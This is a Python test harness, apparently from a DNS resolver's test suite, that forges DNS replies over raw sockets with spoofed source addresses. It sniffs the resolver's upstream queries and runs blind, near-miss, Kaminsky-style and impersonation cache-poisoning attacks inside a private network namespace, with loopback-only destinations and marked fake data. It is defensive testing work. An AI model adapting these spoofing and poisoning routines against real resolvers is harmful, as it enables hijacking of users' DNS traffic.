#!/usr/bin/python3
# spoofer.py — an off-path (and an "insider") attacker that forges DNS replies.
#
# Why it exists: a resolver's cache is only as safe as its reply matching
# (source address and port, ID, exact 0x20 case of the question) and its
# bailiwick scrub.  This tool attacks both from inside the test's private
# network namespace, where we are root of a user namespace and may use raw
# sockets: every forged datagram is built by hand (IP_HDRINCL) with the
# SOURCE address of an authoritative server of tests/hier, so to the
# resolver's kernel it is indistinguishable from a real reply.  Every packet
# goes to 127.0.0.0/8 (or 198.18.0.0/15, the raw-mode TAP tests' range, in
# the same namespace); hier.in_private_netns() is checked first.
#
#   spoofer.py selftest                    forged packets arrive, source forged, checksum right
#   spoofer.py blind ...                   (a) random ID and random destination port
#   spoofer.py insider ...                 (b) sniffs each upstream query on lo and sends
#                                              near-misses to its real port (never the exact reply)
#   spoofer.py kaminsky ...                (d) asks the resolver random names under a zone
#                                              and floods referral hijacks for each
#   spoofer.py impersonate ...             the positive control: answers queries sent to
#                                              addresses where no server listens, exactly
#                                              (right port, ID, case): what an accepted
#                                              forgery looks like
#
# Every forged reply carries a payload (c) whose data is all marked: addresses
# in 127.66.0.0/16 or 2001:db8:6666::/48, names under "evil." or containing an
# "evil" label.  So any forged data that a resolver accepted, kept or handed
# out is found by looking for those markers (is_forged_text()).
#
# Each command runs for --seconds (or until SIGTERM/SIGINT) and writes what it
# sent, per kind, as JSON to --json (and a summary line to stdout).
import argparse
import errno
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import hier  # noqa: E402

EVIL_A = "127.66.6.6"
EVIL_AAAA = "2001:db8:6666::6"
EVIL_NS = "ns.evil."
MARKERS = ("127.66.", "2001:db8:6666:", "evil")

ETH_P_ALL = 0x0003
ETH_HLEN = 14          # lo has an (all-zero) Ethernet header
PACKET_OUTGOING = 4
SO_ATTACH_FILTER = 26
T_A, T_NS, T_CNAME, T_SOA, T_AAAA = 1, 2, 5, 6, 28
PORT_MIN = 1024        # rootwalkd draws upstream ports from 1024..65535


def is_forged_text(text):
    """True if text (a cache dump line, an answer) carries forged data."""
    low = text.lower()
    return any(m in low for m in MARKERS)


# ---- DNS wire helpers (by hand: fast, and the question's case is ours) ----

def wire_name(text):
    """'www.example.com.' -> wire format, case kept."""
    out = b""
    for label in text.rstrip(".").split("."):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def name_text(wire):
    """Wire name (uncompressed) -> 'www.example.com.'."""
    labels, i = [], 0
    while wire[i]:
        labels.append(wire[i + 1:i + 1 + wire[i]].decode("ascii", "replace"))
        i += 1 + wire[i]
    return ".".join(labels) + "."


def rr(owner, rtype, rdata, ttl=86400):
    return owner + struct.pack("!HHIH", rtype, 1, ttl, len(rdata)) + rdata


def a_rr(owner, addr=EVIL_A):
    return rr(owner, T_A, socket.inet_aton(addr))


def ns_rr(owner, target):
    return rr(owner, T_NS, wire_name(target))


QNAME_PTR = b"\xc0\x0c"   # the question's name, as the answer's owner


def answer_for(qtype):
    """An answer RR for the asked name (by pointer), forged for its type."""
    if qtype == T_A:
        return rr(QNAME_PTR, T_A, socket.inet_aton(EVIL_A))
    if qtype == T_AAAA:
        return rr(QNAME_PTR, T_AAAA, socket.inet_pton(socket.AF_INET6, EVIL_AAAA))
    if qtype == T_NS:
        return rr(QNAME_PTR, T_NS, wire_name(EVIL_NS))
    return rr(QNAME_PTR, T_CNAME, wire_name("poisoned.evil."))


def payload_sections(kind, qtype, zone="example.com."):
    """(answer, authority, additional) RR lists of one forged payload kind (c).

    answer   — the asked name pointing to the attacker;
    oob      — that plus out-of-bailiwick NS/A: com. and the root handed to
               ns.evil., its address, an address for www.example.net;
    other    — answers for names other than the one asked;
    kaminsky — the asked name plus a hijack of the zone's NS set and glue that
               overrides its servers' addresses (in bailiwick of the zone)."""
    ans = [answer_for(qtype)]
    if kind == "answer":
        return ans, [], []
    if kind == "oob":
        return (ans, [ns_rr(wire_name("com."), EVIL_NS), ns_rr(wire_name("."), EVIL_NS)],
                [a_rr(wire_name(EVIL_NS)), a_rr(wire_name("www.example.net.")),
                 a_rr(wire_name("a.nic.com."))])
    if kind == "other":
        return (ans + [a_rr(wire_name("www.example.com.")), a_rr(wire_name("mail.example.com.")),
                       a_rr(wire_name("www.example.org.")),
                       rr(wire_name("evil.example.com."), T_CNAME, wire_name("ns.evil."))],
                [], [])
    if kind == "kaminsky":
        z = wire_name(zone)
        return (ans, [ns_rr(z, "ns1." + zone), ns_rr(z, "ns.evil." + zone)],
                [a_rr(wire_name("ns1." + zone)), a_rr(wire_name("ns2." + zone)),
                 a_rr(wire_name("ns.evil." + zone))])
    raise ValueError(kind)


PAYLOADS = ("answer", "oob", "other", "kaminsky")


def dns_reply(qid, qname, qtype, sections, aa=True, rcode=0):
    an, ns, ar = sections
    flags = 0x8000 | (0x0400 if aa else 0) | rcode
    return (struct.pack("!HHHHHH", qid, flags, 1, len(an), len(ns), len(ar)) +
            qname + struct.pack("!HH", qtype, 1) + b"".join(an + ns + ar))


def random_case(wire, rnd=random):
    """The name with each letter's case from a coin flip (an attacker that
    does not know the 0x20 bits the resolver chose)."""
    b = bytearray(wire)
    i = 0
    while b[i]:
        for j in range(i + 1, i + 1 + b[i]):
            if chr(b[j]).isalpha():
                b[j] = (b[j] | 0x20) if rnd.getrandbits(1) else (b[j] & 0xdf)
        i += 1 + b[i]
    return bytes(b)


def flip_one_case(wire):
    """The name with the case of one letter changed, or None (no letter)."""
    b = bytearray(wire)
    i = 0
    while b[i]:
        for j in range(i + 1, i + 1 + b[i]):
            if chr(b[j]).isalpha():
                b[j] ^= 0x20
                return bytes(b)
        i += 1 + b[i]
    return None


# ---- forging datagrams ---------------------------------------------------

def csum_add(data, s=0):
    """One's-complement 16-bit sum (not folded, not inverted)."""
    if len(data) % 2:
        data += b"\0"
    return s + sum(struct.unpack("!%dH" % (len(data) // 2), data))


def fold(s):
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s


class Template:
    """One forged datagram whose destination port and DNS ID are patched per
    packet; the UDP checksum is the template's base sum plus those two words.
    The IP header is ours (IP_HDRINCL); the kernel fills its checksum."""

    def __init__(self, src, sport, dst, payload):
        if not allowed_destination(dst):
            raise ValueError(f"refusing to send to {dst}: not 127/8 or 198.18/15")
        self.dst = dst
        udp_len = 8 + len(payload)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17,
                                                                             udp_len)
        zeroed = bytearray(payload)
        zeroed[0:2] = b"\0\0"
        self.base = csum_add(pseudo + struct.pack("!HHHH", sport, 0, udp_len, 0) + bytes(zeroed))
        self.buf = bytearray(ip + struct.pack("!HHHH", sport, 0, udp_len, 0) + payload)

    def packet(self, dport, qid):
        c = (~fold(self.base + dport + qid)) & 0xffff
        struct.pack_into("!H", self.buf, 22, dport)
        struct.pack_into("!H", self.buf, 26, c or 0xffff)
        struct.pack_into("!H", self.buf, 28, qid)
        return self.buf


def allowed_destination(addr):
    """Loopback, or the benchmark range raw-mode tests use inside the netns."""
    a = socket.inet_aton(addr)
    return a[0] == 127 or (a[0] == 198 and a[1] in (18, 19))


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    return s


def send(raw, tpl, dport, qid):
    """Send one forged datagram; False if the kernel had no room (counted as
    not sent)."""
    try:
        raw.sendto(tpl.packet(dport, qid), (tpl.dst, 0))
        return True
    except OSError as e:
        if e.errno in (errno.ENOBUFS, errno.EAGAIN):
            return False
        raise


# ---- sniffing the resolver's upstream queries (lo, inside the netns) -------

def bpf_udp_dport(port):
    """Classic BPF: IPv4 UDP, not a fragment, destination port `port`."""
    ins = [
        (0x28, 0, 0, 12),                 # ldh [12]         ethertype
        (0x15, 0, 8, 0x0800),             # jeq IPv4
        (0x30, 0, 0, ETH_HLEN + 9),       # ldb [23]         protocol
        (0x15, 0, 6, 17),                 # jeq UDP
        (0x28, 0, 0, ETH_HLEN + 6),       # ldh [20]         fragment offset
        (0x45, 4, 0, 0x1fff),             # jset -> drop
        (0xb1, 0, 0, ETH_HLEN),           # ldxb 4*([14]&0xf)
        (0x48, 0, 0, ETH_HLEN + 2),       # ldh [x+16]       destination port
        (0x15, 0, 1, port),               # jeq port
        (0x06, 0, 0, 0x40000),            # ret accept
        (0x06, 0, 0, 0),                  # ret drop
    ]
    return ins


def attach_filter(sock, ins):
    import ctypes
    prog = b"".join(struct.pack("HBBI", *i) for i in ins)
    buf = ctypes.create_string_buffer(prog)
    fprog = struct.pack("HL", len(ins), ctypes.addressof(buf))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
    return buf   # keep it alive as long as the socket


class Sniffer:
    """Sees every DNS query (UDP to port 53) on an interface (lo, or the TAP
    of a raw-mode resolver; both have a 14-byte Ethernet header): who asked
    whom, from which port, with which ID and the question's exact bytes."""

    def __init__(self, iface="lo"):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self._keep = attach_filter(self.sock, bpf_udp_dport(53))
        self.sock.bind((iface, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self.sock.setblocking(False)

    def fileno(self):
        return self.sock.fileno()

    def queries(self):
        """Drain what is queued: a list of (src, sport, dst, id, qname, qtype)."""
        out = []
        while True:
            try:
                data, addr = self.sock.recvfrom(4096)
            except BlockingIOError:
                return out
            if addr[2] == PACKET_OUTGOING:   # lo shows every packet twice
                continue
            q = parse_query(data[ETH_HLEN:])
            if q:
                out.append(q)

    def close(self):
        self.sock.close()


def parse_query(ip):
    if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 17:
        return None
    ihl = (ip[0] & 15) * 4
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
    msg = ip[ihl + 8:]
    if len(msg) < 17 or msg[2] & 0x80 or struct.unpack("!H", msg[4:6])[0] != 1:
        return None
    i = 12
    while i < len(msg) and msg[i]:
        if msg[i] > 63:
            return None
        i += 1 + msg[i]
    if i + 5 > len(msg):
        return None
    qname = bytes(msg[12:i + 1])
    qtype = struct.unpack("!H", msg[i + 1:i + 3])[0]
    return src, sport, dst, struct.unpack("!H", msg[0:2])[0], qname, qtype


# ---- the attacks -------------------------------------------------------------

class Run:
    """Bookkeeping shared by the commands: a deadline, a stop flag set by
    SIGTERM/SIGINT, counts per kind, and the JSON report."""

    def __init__(self, args, kind):
        self.kind, self.args = kind, args
        self.sent = {}
        self.extra = {}
        self.stop = False
        self.t0 = time.monotonic()
        self.deadline = self.t0 + args.seconds
        signal.signal(signal.SIGTERM, self._stop)
        signal.signal(signal.SIGINT, self._stop)

    def _stop(self, *_):
        self.stop = True

    def ready(self):
        """Sockets are set up: the test may start the traffic it attacks."""
        print(f"spoofer {self.kind}: ready", flush=True)

    def running(self):
        return not self.stop and time.monotonic() < self.deadline

    def count(self, what, n=1):
        self.sent[what] = self.sent.get(what, 0) + n

    def report(self):
        secs = time.monotonic() - self.t0
        total = sum(self.sent.values())
        rep = {"kind": self.kind, "seconds": round(secs, 3), "sent": self.sent,
               "total": total, "per_second": round(total / secs) if secs > 0 else 0}
        rep.update(self.extra)
        if self.args.json:
            tmp = self.args.json + ".tmp"
            with open(tmp, "w") as f:
                json.dump(rep, f, indent=1, sort_keys=True)
            os.replace(tmp, self.args.json)
        print(f"spoofer {self.kind}: sent {total} forged packets in {secs:.1f}s "
              f"({rep['per_second']}/s): {json.dumps(self.sent, sort_keys=True)}", flush=True)
        return rep


class Pacer:
    """At most `rate` packets a second (0: as fast as we can), in steps of
    ~10 ms so a busy loop does not burn the shared CPU between sends."""

    def __init__(self, rate):
        self.rate, self.t0, self.n = rate, time.monotonic(), 0

    def wait(self):
        self.n += 1
        if self.rate <= 0 or self.n % 64:
            return
        ahead = self.n / self.rate - (time.monotonic() - self.t0)
        if ahead > 0.01:
            time.sleep(ahead)


def cmd_blind(args):
    """(a) Off-path: the attacker knows the resolver's address and the names
    it is likely resolving, and guesses port, ID and case."""
    run = Run(args, "blind")
    rnd = random.Random()
    raw = raw_socket()
    names = [wire_name(n) for n in args.names.split(",")]
    excluded = {int(p) for p in args.exclude_ports.split(",") if p}
    tpls = []
    for src in args.sources.split(","):
        for name in names:
            for kind in PAYLOADS:
                for _ in range(4):   # a few random-case spellings of each
                    tpls.append((kind, Template(src, 53, args.to, dns_reply(
                        0, random_case(name, rnd), T_A,
                        payload_sections(kind, T_A, args.zone)))))
    pace = Pacer(args.rate)
    run.ready()
    while run.running():
        for _ in range(256):
            kind, tpl = tpls[rnd.randrange(len(tpls))]
            port = rnd.randrange(PORT_MIN, 65536)
            if port in excluded:
                continue
            if send(raw, tpl, port, rnd.getrandbits(16)):
                run.count("blind_" + kind)
            pace.wait()
    run.report()


def insider_burst(raw, run, q, burst, rnd, zone):
    """(b) For one sniffed query: forgeries aimed at its real port that each
    get exactly one thing wrong.  The exact reply is never sent (an on-path
    attacker wins against any UDP resolver; that is not what is tested).
    The case near-miss goes last: when it lands first the query moves to TCP
    and the rest find the port closed."""
    src, sport, dst, qid, qname, qtype = q
    payload = PAYLOADS[rnd.randrange(len(PAYLOADS))]
    sec = payload_sections(payload, qtype, zone)
    # known port, guessed ID (never the right one: counted as "wrong id")
    tpl = Template(dst, 53, src, dns_reply(0, qname, qtype, sec))
    for _ in range(burst):
        wrong = rnd.getrandbits(16)
        if wrong != qid and send(raw, tpl, sport, wrong):
            run.count("insider_wrong_id")
    # right ID and question, but from another address, or another port
    if send(raw, Template("127.66.0.53", 53, src, dns_reply(0, qname, qtype, sec)), sport, qid):
        run.count("insider_wrong_source_addr")
    if send(raw, Template(dst, 5353, src, dns_reply(0, qname, qtype, sec)), sport, qid):
        run.count("insider_wrong_source_port")
    # right ID, port, source: an answer to another name, or another type
    other = wire_name("www.evil.") if name_text(qname).lower() != "www.evil." else wire_name(".")
    if send(raw, Template(dst, 53, src, dns_reply(0, other, qtype, sec)), sport, qid):
        run.count("insider_wrong_name")
    otype = T_AAAA if qtype != T_AAAA else T_A
    if send(raw, Template(dst, 53, src, dns_reply(0, qname, otype, sec)), sport, qid):
        run.count("insider_wrong_type")
    flipped = flip_one_case(qname)
    if flipped and send(raw, Template(dst, 53, src, dns_reply(0, flipped, qtype, sec)),
                        sport, qid):
        run.count("insider_wrong_case")


def cmd_insider(args):
    run = Run(args, "insider")
    rnd = random.Random()
    raw = raw_socket()
    sn = Sniffer(args.iface)
    seen = 0
    run.ready()
    while run.running():
        r, _, _ = select.select([sn], [], [], 0.05)
        if not r:
            continue
        for q in sn.queries():
            if q[0] != args.resolver_src or q[2] in args.skip_servers.split(","):
                continue
            seen += 1
            insider_burst(raw, run, q, args.burst, rnd, args.zone)
    run.extra["queries_sniffed"] = seen
    sn.close()
    run.report()


def kaminsky_name(rnd):
    """A fresh label; its letters never spell a marker ("evil")."""
    while True:
        label = "rnd%d-%s" % (rnd.randrange(10**6), "".join(
            rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10)))
        if not is_forged_text(label):
            return label


def cmd_kaminsky(args):
    """(d) The attacker is also a client: it makes the resolver look up
    rnd...<zone> (always a fresh name, so always an upstream query) and
    floods hijacking replies for it from the zone's servers: random IDs, the
    case guessed, the port guessed or (--sniff) learnt."""
    run = Run(args, "kaminsky")
    rnd = random.Random()
    raw = raw_socket()
    sn = Sniffer(args.iface) if args.sniff else None
    servers = args.servers.split(",")
    raddr, rport = args.resolver.rsplit("@", 1)
    cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    cli.setblocking(False)
    answers = {"noerror_forged": 0, "nxdomain": 0, "other": 0}
    names = 0
    pace = Pacer(args.rate)
    run.ready()
    while run.running():
        label = kaminsky_name(rnd)
        qname = wire_name(f"{label}.{args.zone}")
        cid = rnd.getrandbits(16)
        cli.sendto(struct.pack("!HHHHHH", cid, 0x0100, 1, 0, 0, 0) + qname +
                   struct.pack("!HH", T_A, 1), (raddr, int(rport)))
        names += 1
        port = None
        if sn:   # learn the port of the upstream query for this name
            until = time.monotonic() + 0.02
            while port is None and time.monotonic() < until:
                select.select([sn], [], [], 0.005)
                for q in sn.queries():
                    if q[4].lower() == qname.lower() and q[2] in servers:
                        port, servers_hit = q[1], q[2]
        for i in range(args.per_name):
            src = servers_hit if port else servers[i % len(servers)]
            kind = "kaminsky_referral" if i % 2 else "kaminsky_answer"
            sec = payload_sections("kaminsky", T_A, args.zone)
            if kind == "kaminsky_referral":
                sec = ([], sec[1], sec[2])
            tpl = Template(src, 53, args.to, dns_reply(0, random_case(qname, rnd), T_A, sec,
                                                       aa=(kind == "kaminsky_answer")))
            dport = port if port else rnd.randrange(PORT_MIN, 65536)
            if dport != int(rport) and send(raw, tpl, dport, rnd.getrandbits(16)):
                run.count(kind + ("_known_port" if port else "_blind"))
            pace.wait()
        drain_answers(cli, answers, (raddr, int(rport)))
    time.sleep(0.2)
    drain_answers(cli, answers, (raddr, int(rport)))
    run.extra.update({"names_asked": names, "client_answers": answers})
    run.report()


def drain_answers(cli, answers, resolver):
    """Classify the resolver's answers to the attacker's own questions: one
    with forged data in it is a successful poisoning.  Datagrams from anyone
    else (the blind flood reaches this socket too) are not answers."""
    while True:
        try:
            msg, src = cli.recvfrom(4096)
        except BlockingIOError:
            return
        if src != resolver:
            answers["not_from_resolver"] = answers.get("not_from_resolver", 0) + 1
            continue
        rcode = msg[3] & 15 if len(msg) > 3 else -1
        if socket.inet_aton(EVIL_A) in msg or b"evil" in msg.lower():
            answers["noerror_forged"] += 1
            ex = answers.setdefault("forged_examples", [])
            if len(ex) < 5:
                ex.append(msg.hex())
        elif rcode == 3:
            answers["nxdomain"] += 1
        else:
            answers["other"] += 1


def cmd_impersonate(args):
    """Positive control: be the authoritative server at addresses where no
    server listens, by forging exact replies (sniffed port, ID and case).
    ROLE "root" delegates --zone to the next impersonated address; ROLE
    "zone" answers every question in --zone with forged data plus the
    out-of-bailiwick payload a scrub must remove."""
    run = Run(args, "impersonate")
    raw = raw_socket()
    sn = Sniffer(args.iface)
    roles = dict(r.split("=") for r in args.roles.split(","))
    zone_addr = next(a for a, r in roles.items() if r == "zone")
    root_addr = next(a for a, r in roles.items() if r == "root")
    zone = args.zone
    run.ready()
    while run.running():
        r, _, _ = select.select([sn], [], [], 0.05)
        if not r:
            continue
        for src, sport, dst, qid, qname, qtype in sn.queries():
            role = roles.get(dst)
            if not role:
                continue
            name = name_text(qname).lower()
            if role == "root":
                if name == "." and qtype == T_NS:
                    sec = ([rr(QNAME_PTR, T_NS, wire_name("a.root-servers.net."))], [],
                           [a_rr(wire_name("a.root-servers.net."), root_addr)])
                    body = dns_reply(qid, qname, qtype, sec)
                elif name == zone or name.endswith("." + zone):
                    sec = ([], [ns_rr(wire_name(zone), "ns1." + zone)],
                           [a_rr(wire_name("ns1." + zone), zone_addr)])
                    body = dns_reply(qid, qname, qtype, sec, aa=False)
                else:
                    body = dns_reply(qid, qname, qtype, ([], [], []), rcode=3)
            else:
                an, ns, ar = payload_sections("oob", qtype)
                _, _, ar2 = payload_sections("other", qtype)
                an2 = payload_sections("other", qtype)[0][1:]
                if name == "ns1." + zone and qtype == T_A:
                    an = [a_rr(QNAME_PTR, zone_addr)]
                body = dns_reply(qid, qname, qtype, (an + an2, ns + [ns_rr(
                    wire_name(zone), "ns1." + zone)], ar + ar2))
            tpl = Template(dst, 53, src, body)
            if send(raw, tpl, sport, qid):
                run.count("exact_" + role)
    sn.close()
    run.report()


def cmd_selftest(args):
    """Forged datagrams reach an ordinary UDP socket with the forged source
    address, the right port and an intact payload (so the checksum is
    right), at each destination port and ID the patching produces."""
    raw = raw_socket()
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind(("127.0.0.1", 0))
    rx.settimeout(1.0)
    port = rx.getsockname()[1]
    body = dns_reply(0, wire_name("www.example.com."), T_A, payload_sections("oob", T_A))
    tpl = Template("127.3.0.1", 53, "127.0.0.1", body)
    for qid in (0, 1, 0x1234, 0xfffe, 0xffff):
        raw.sendto(tpl.packet(port, qid), ("127.0.0.1", 0))
        data, (src, sport) = rx.recvfrom(4096)
        want = struct.pack("!H", qid) + body[2:]
        if (src, sport) != ("127.3.0.1", 53) or data != want:
            print(f"selftest FAILED: got {len(data)} bytes from {src}@{sport}")
            return 1
    print("selftest ok: forged source 127.3.0.1@53 received intact")
    return 0


def main():
    p = argparse.ArgumentParser(description="forge DNS replies inside the test netns")
    sub = p.add_subparsers(dest="cmd", required=True)
    common = argparse.ArgumentParser(add_help=False)
    common.add_argument("--seconds", type=float, default=5.0)
    common.add_argument("--json")
    common.add_argument("--zone", default="example.com.")
    common.add_argument("--rate", type=float, default=0, help="packets/s, 0 = unlimited")
    common.add_argument("--iface", default="lo", help="where to sniff the resolver's queries")
    common.add_argument("--netns-checked", action="store_true",
                        help="the caller checked the namespace (before adding TAPs to it)")
    sub.add_parser("selftest", parents=[common])
    b = sub.add_parser("blind", parents=[common])
    b.add_argument("--to", default="127.0.0.1", help="the resolver's upstream address")
    b.add_argument("--sources", default="127.2.0.2,127.3.0.1,127.3.0.2,127.1.0.1")
    b.add_argument("--names", default="www.example.com.,example.com.,mail.example.com.")
    b.add_argument("--exclude-ports", default="5353")
    i = sub.add_parser("insider", parents=[common])
    i.add_argument("--resolver-src", default="127.0.0.1")
    i.add_argument("--skip-servers", default="", help="do not attack queries to these")
    i.add_argument("--burst", type=int, default=16)
    k = sub.add_parser("kaminsky", parents=[common])
    k.add_argument("--resolver", required=True, help="ADDR@PORT the attacker asks")
    k.add_argument("--to", default="127.0.0.1")
    k.add_argument("--servers", default="127.3.0.1,127.3.0.2")
    k.add_argument("--per-name", type=int, default=100)
    k.add_argument("--sniff", action="store_true", help="learn the port (insider Kaminsky)")
    m = sub.add_parser("impersonate", parents=[common])
    m.add_argument("--roles", default="127.66.0.1=root,127.66.0.2=zone")
    args = p.parse_args()
    if not args.netns_checked and not hier.in_private_netns():
        print("spoofer.py: refusing to run outside a private network namespace "
              "(use tests/hier/netns-run)", file=sys.stderr)
        return 2
    return {"selftest": cmd_selftest, "blind": cmd_blind, "insider": cmd_insider,
            "kaminsky": cmd_kaminsky, "impersonate": cmd_impersonate}[args.cmd](args) or 0


if __name__ == "__main__":
    sys.exit(main())
